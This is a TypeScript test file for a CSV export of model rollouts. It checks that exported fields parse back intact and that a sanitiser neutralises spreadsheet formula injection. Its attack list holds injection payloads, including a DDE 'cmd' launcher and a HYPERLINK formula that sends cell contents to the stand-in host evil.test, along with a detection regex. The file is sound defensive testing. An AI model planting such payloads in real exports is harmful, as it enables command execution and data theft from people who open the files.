/** @file CSV: read back by a parser of its own; nothing in it is a formula to any spreadsheet. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { apply, emptyRun } from "../../../src/run/run.ts";
import { csvOf, harmless } from "../../../src/ui/take-away/csv.ts";
import { adviceRun } from "../fixture-advice.ts";
import { fixtureRun } from "../fixture.ts";

/** RFC 4180, quotes only where a field begins. */
function parse(text: string, separator = ","): string[][] {
  const rows: string[][] = [[]];
  let at = 0;
  for (;;) {
    let field = "";
    if (text[at] === '"') {
      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
        if (text[at] === '"') at++;
        field += text[at] ?? "";
      }
      at++;
    }
    // What stands behind a closing quote, or without quotes.
    while (at < text.length && text[at] !== separator && text[at] !== "\n" && text[at] !== "\r")
      field += text[at++] ?? "";
    rows.at(-1)!.push(field);
    if (at >= text.length) return rows;
    if (text[at] === "\r" && text[at + 1] === "\n") at++;
    if (text[at] !== separator) rows.push([]);
    at++;
  }
}

const sums = fixtureRun().reduce(apply, emptyRun);
const advice = (await adviceRun()).reduce(apply, emptyRun);

test("a row a rollout, under names; texts come back as they were", () => {
  const [head, ...rows] = parse(csvOf(sums).slice(1));
  const at = (name: string) => head!.indexOf(name);
  const { rollouts, task } = sums.groups[0]!;
  expect(rows).toHaveLength(rollouts.length + 1);
  expect(rows.at(-1)).toEqual([""]);
  for (const [i, rollout] of rollouts.entries()) {
    const row = rows[i]!;
    expect(row).toHaveLength(head!.length);
    expect([row[at("rollout")], row[at("question")], row[at("text")]]).toEqual([
      String(i + 1),
      task.prompt,
      rollout.text,
    ]);
    expect([row[at("reward")], row[at("advantage")]]).toEqual([String(rollout.reward), String(rollout.advantage)]);
    expect(row[at("answer")]).toBe(rollout.equivalence?.extracted ?? "");
  }
});

test("of advice, a column a criterion", () => {
  const [head, first] = parse(csvOf(advice).slice(1));
  const { criteria, rollouts } = advice.groups[0]!;
  for (const [i, { text }] of criteria.entries()) {
    const column = head!.findIndex((name) => name.endsWith(`: ${text}`));
    const { met } = rollouts[0]!.verdicts[i]!;
    expect(first![column]).toBe(met === null ? "undecided" : String(met));
  }
});

test("begins with a byte-order mark, and is nothing but it before there is a run", () => {
  expect(csvOf(advice).codePointAt(0)).toBe(0xfeff);
  expect(csvOf(emptyRun)).toBe("\ufeff");
});

describe("no field is a formula", () => {
  const dangerous = /^[\s"\u0000-\u0020\u200b]*[=+\-@|%＝＋－＠]/u; // eslint-disable-line no-control-regex -- what spreadsheets skip
  const attacks = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"open")',
    "fine;=1+1",
    "fine\n=1+1",
    "fine\t@x",
    'fine","=1+1',
    "a,-b",
    "\u200b=1+1",
    "|calc",
    "%0A-1",
  ];

  test.each(attacks)("%j", (text) => {
    expect(harmless(text)).not.toMatch(dangerous);
    const rollout = { ...sums.groups[0]!.rollouts[0]!, text };
    const csv = csvOf({ ...sums, groups: [{ ...sums.groups[0]!, rollouts: [rollout] }] });
    // Whatever the spreadsheet is set to cut at.
    for (const separator of [",", ";", "\t"]) {
      const fields = parse(csv.slice(1), separator).flat();
      const own = /^-?\d+(\.\d+)?(e-?\d+)?$/;
      expect(fields.filter((field) => dangerous.test(field) && !own.test(field))).toEqual([]);
    }
  });

  test("of any text, and an apostrophe is all that is added", () => {
    const text = fc.string({
      unit: fc.constantFrom("=", "+", "-", "@", ";", ",", "\n", "\t", '"', " ", "a", "1", "|"),
    });
    fc.assert(
      fc.property(text, (written) => {
        const safe = harmless(written);
        expect(safe.replaceAll("'", "")).toBe(written);
        if (/^-?\d+([.,]\d+)?$/.test(written)) expect(safe).toBe(written);
        else for (const part of safe.split(/[;,\n\t]/)) expect(part).not.toMatch(dangerous);
      }),
    );
  });

  test("numbers stay numbers, ordinary text stays as it is", () => {
    for (const text of ["-5", "13", "-2,5", "3 × 4 = 12", "a - b", "list.reduce((a, b) => a + b, 0)"]) {
      expect(harmless(text)).toBe(text);
    }
  });

  test("a million blanks take no time", () => {
    const start = performance.now();
    harmless(" \n".repeat(500_000));
    expect(performance.now() - start).toBeLessThan(2000);
  });
});
